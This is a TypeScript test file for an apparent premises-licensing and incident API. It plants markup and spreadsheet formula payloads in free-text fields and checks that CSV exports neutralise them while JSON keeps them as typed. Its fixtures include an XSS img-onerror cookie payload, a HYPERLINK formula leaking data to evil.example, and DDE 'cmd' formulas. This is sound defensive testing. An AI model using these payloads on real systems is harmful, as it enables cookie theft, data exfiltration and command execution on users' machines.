// Markup and spreadsheet formulas typed into every free-text field the API takes (premises
// names and addresses, incident descriptions, police notes and places, remedy notes, plan
// sections) come back out of every export as data: each CSV cell that would start a formula is
// neutralised with a leading ', and JSON and GeoJSON carry the text exactly as typed. The browser
// side (pages and map tooltips render it as text) is test/e2e/hardening.e2e.ts.
import t, { type Test } from 'tap'
import { parse } from 'csv-parse/sync'
import { fullSections } from '../plans/plan-fixtures.ts'
import { build, login } from '../helper.ts'

export const PLANTED = {
  link: '<a href="https://evil.example/login">log in again</a>',
  image: '<img src=x onerror=alert(document.cookie)>',
  hyperlink: '=HYPERLINK("https://evil.example/?leak="&P2,"Details")',
  command: '-2+3+cmd|\' /C calc\'!A0',
  sum: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  plus: '+44 20 7946 0000 =1+1',
  tab: '\t=1+1'
}
const FORMULAS = [PLANTED.hyperlink, PLANTED.command, PLANTED.sum, PLANTED.plus, PLANTED.tab]

const app = await build(t)
const officer = await login(app, 'officer')
const police = await login(app, 'police')

/** Every cell of every row: text that would start a formula is neutralised; the planted values are all there. */
function checkCsv (t: Test, name: string, csv: string, planted: string[]) {
  const cells = (parse(csv, { relax_column_count: true }) as string[][]).flat()
  for (const cell of cells) {
    if (/^[=+@\t\r]|^-(?![\d.]+$)/.test(cell)) t.fail(`${name}: a cell starts a formula: ${JSON.stringify(cell)}`)
  }
  for (const value of planted) {
    const expected = /^[=+\-@\t\r]/.test(value) ? `'${value}` : value
    t.ok(cells.some(c => c === expected || c.includes(expected)), `${name}: ${JSON.stringify(value.slice(0, 24))} is in the file, neutralised`)
  }
}

t.test('planted markup and formulas leave every export as data', async t => {
  const created = await app.inject({
    method: 'POST', url: '/api/premises', headers: officer.headers,
    payload: { name: `${PLANTED.hyperlink}`, address: `${PLANTED.command}`, postcode: 'EC2V 7HH', licenceHolder: PLANTED.link, dpsName: PLANTED.sum, status: 'current', location: { lat: 51.5151, lng: -0.0921 } }
  })
  t.equal(created.statusCode, 201, created.body.slice(0, 200))
  const premises = created.json()
  const other = (await app.inject({ method: 'POST', url: '/api/premises', headers: officer.headers, payload: { name: PLANTED.link, address: PLANTED.image, postcode: 'EC2V 7HH', status: 'current', location: { lat: 51.5152, lng: -0.0922 } } })).json()
  const manager = await login(app, 'manager', { premisesIds: [premises.id] })

  const incident = await app.inject({
    method: 'POST', url: '/api/incidents', headers: manager.headers,
    payload: { category: 'noise', occurredAt: '2024-12-06T23:15:00Z', location: { lat: 51.5151, lng: -0.0921 }, premisesId: premises.id, description: PLANTED.hyperlink, locationText: PLANTED.plus }
  })
  t.equal(incident.statusCode, 201, incident.body.slice(0, 200))
  const noted = await app.inject({
    method: 'POST', url: '/api/incidents', headers: police.headers,
    payload: { category: 'violent-crime', occurredAt: '2024-12-06T23:30:00Z', location: { lat: 51.5151, lng: -0.0921 }, premisesId: premises.id, description: PLANTED.tab, policeOnlyNotes: PLANTED.command }
  })
  t.equal(noted.statusCode, 201, noted.body.slice(0, 200))
  const remedy = await app.inject({ method: 'POST', url: `/api/premises/${premises.id}/traffic-light/credits`, headers: officer.headers, payload: { note: PLANTED.sum } })
  t.ok(remedy.statusCode < 300, `remedy note recorded (${remedy.statusCode})`)
  const plan = await app.inject({ method: 'PUT', url: `/api/premises/${premises.id}/noise-plan`, headers: manager.headers, payload: { sections: { ...fullSections('noise_management_plan'), ...Object.fromEntries(Object.keys(fullSections('noise_management_plan')).slice(0, 2).map((k, i) => [k, i ? PLANTED.link : PLANTED.hyperlink])) } } })
  t.equal(plan.statusCode, 200, plan.body.slice(0, 200))
  await app.db.insertInto('flags').values({
    premisesId: premises.id, crimeGroup: 'violence', basis: 'days', level: 'rising', explanation: PLANTED.command,
    recent: 9, recentLinked: 9, recentProximate: 0, baseline: 2, cityRecent: 100, cityBaseline: 100, lastYear: 1, expected: 2, ratio: 4.5, p: 0.001, q: 0.01, lastRaisedAsOf: '2024-12-06'
  } as never).execute()

  const get = (url: string, headers: Record<string, string> = officer.headers) => app.inject({ url, headers })
  checkCsv(t, 'premises CSV', (await get('/api/premises/export.csv')).body, [PLANTED.hyperlink, PLANTED.command, PLANTED.sum, PLANTED.link])
  checkCsv(t, 'incidents CSV (police)', (await get('/api/incidents/export.csv', police.headers)).body, [PLANTED.hyperlink, PLANTED.plus, PLANTED.tab, PLANTED.command, PLANTED.hyperlink])
  checkCsv(t, 'incidents CSV (venue manager)', (await get('/api/incidents/export.csv', manager.headers)).body, [PLANTED.hyperlink, PLANTED.plus])
  checkCsv(t, 'flags CSV', (await get('/api/flags/export')).body, [PLANTED.hyperlink, PLANTED.command])
  checkCsv(t, 'Safety Thirst progress CSV', (await get('/api/safety-thirst/progress/export.csv')).body, [PLANTED.hyperlink, PLANTED.command, PLANTED.link])
  checkCsv(t, 'hotspots CSV', (await get('/api/hotspots/export.csv?from=2024-12-01&to=2024-12-31')).body, [])

  const geojson = (await get('/api/premises/export.geojson')).json()
  const feature = geojson.features.find((f: any) => f.id === premises.id)
  t.equal(feature.properties.name, PLANTED.hyperlink, 'GeoJSON carries the name as typed')
  t.equal(feature.properties.licenceHolder, PLANTED.link, 'and markup as text')
  t.equal((await get(`/api/premises/${other.id}`)).json().address, PLANTED.image, 'JSON carries markup as typed')
  t.equal((await get(`/api/public/premises/${premises.id}`, {})).json().name, PLANTED.hyperlink, 'the public register too')
  const incidents = (await get(`/api/incidents?premisesId=${premises.id}`, police.headers)).json().items
  t.ok(incidents.some((i: any) => i.description === PLANTED.hyperlink && i.locationText === PLANTED.plus), 'incidents JSON as typed')
  const noise = (await get(`/api/premises/${premises.id}/noise-plan`)).json()
  t.ok(Object.values(noise.sections).includes(PLANTED.link), 'plan sections as typed')
  for (const text of FORMULAS) t.notOk(JSON.stringify(geojson).includes(`'${text}`), 'no quote mark added outside CSV')
})
